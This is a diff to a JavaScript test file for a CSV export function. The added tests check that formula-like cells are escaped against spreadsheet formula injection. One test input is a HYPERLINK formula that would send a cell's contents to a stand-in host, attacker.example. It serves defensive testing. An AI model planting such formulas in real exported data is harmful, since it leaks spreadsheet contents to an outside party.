@@ -28,7 +28,7 @@ describe('loops CSV', () => {
 
   it('writes one line per loop, days in stage with one decimal and lists joined by semicolons', () => {
     expect(lines(loopsCsv([row()]))[1]).toBe(
-      'FB-7,Live migration of pinned instances,OPERATOR,PLANNED,2026-01-05T09:00:00.000Z,12.3,3,neutron;nova,TH-1;TH-4,olga@example.org,2026-01-17T15:00:00.000Z',
+      'FB-7,Live migration of pinned instances,OPERATOR,PLANNED,2026-01-05T09:00:00.000Z,12.3,3,"neutron;nova","TH-1;TH-4",olga@example.org,2026-01-17T15:00:00.000Z',
     );
     expect(lines(loopsCsv([row({ daysInStage: 0 }), row({ daysInStage: 3 })])).slice(1, 3).map((line) => line.split(',')[5])).toEqual(['0.0', '3.0']);
   });
@@ -45,6 +45,28 @@ describe('loops CSV', () => {
     expect(csvField('carriage\rreturn')).toBe('"carriage\rreturn"');
     const csv = loopsCsv([row({ title: 'Say "hi", then\r\nleave' })]);
     expect(csv).toContain('FB-7,"Say ""hi"", then\r\nleave",OPERATOR');
+  });
+
+  it('neutralises every cell that a spreadsheet would read as a formula, keeping it quoted', () => {
+    expect(csvField('=HYPERLINK("http://attacker.example/?d="&A1,"Click")')).toBe('"\'=HYPERLINK(""http://attacker.example/?d=""&A1,""Click"")"');
+    expect(csvField('+1+1')).toBe(`"'+1+1"`);
+    expect(csvField('-2+3')).toBe(`"'-2+3"`);
+    expect(csvField('@SUM(A1:A9)')).toBe(`"'@SUM(A1:A9)"`);
+    expect(csvField('\t=1+1')).toBe(`"'\t=1+1"`);
+    expect(csvField('\r=1+1')).toBe(`"'\r=1+1"`);
+    expect(csvField('a = b + c')).toBe('a = b + c');
+    expect(csvField('')).toBe('');
+  });
+
+  it('quotes a field with a semicolon or a tab, so that a spreadsheet splitting on them keeps it one cell', () => {
+    expect(csvField('neutron;nova')).toBe('"neutron;nova"');
+    expect(csvField('Harmless;=HYPERLINK("x")')).toBe('"Harmless;=HYPERLINK(""x"")"');
+    expect(csvField('a\t=1')).toBe('"a\t=1"');
+  });
+
+  it('neutralises formulas in every column, not only the title', () => {
+    const line = lines(loopsCsv([row({ title: '@cmd', submitter: '=cmd@example.org', projects: ['nova'], themes: [] })]))[1];
+    expect(line).toBe(`FB-7,"'@cmd",OPERATOR,PLANNED,2026-01-05T09:00:00.000Z,12.3,3,nova,,"'=cmd@example.org",2026-01-17T15:00:00.000Z`);
   });
 
   it('is only the header when no loop matches', () => {
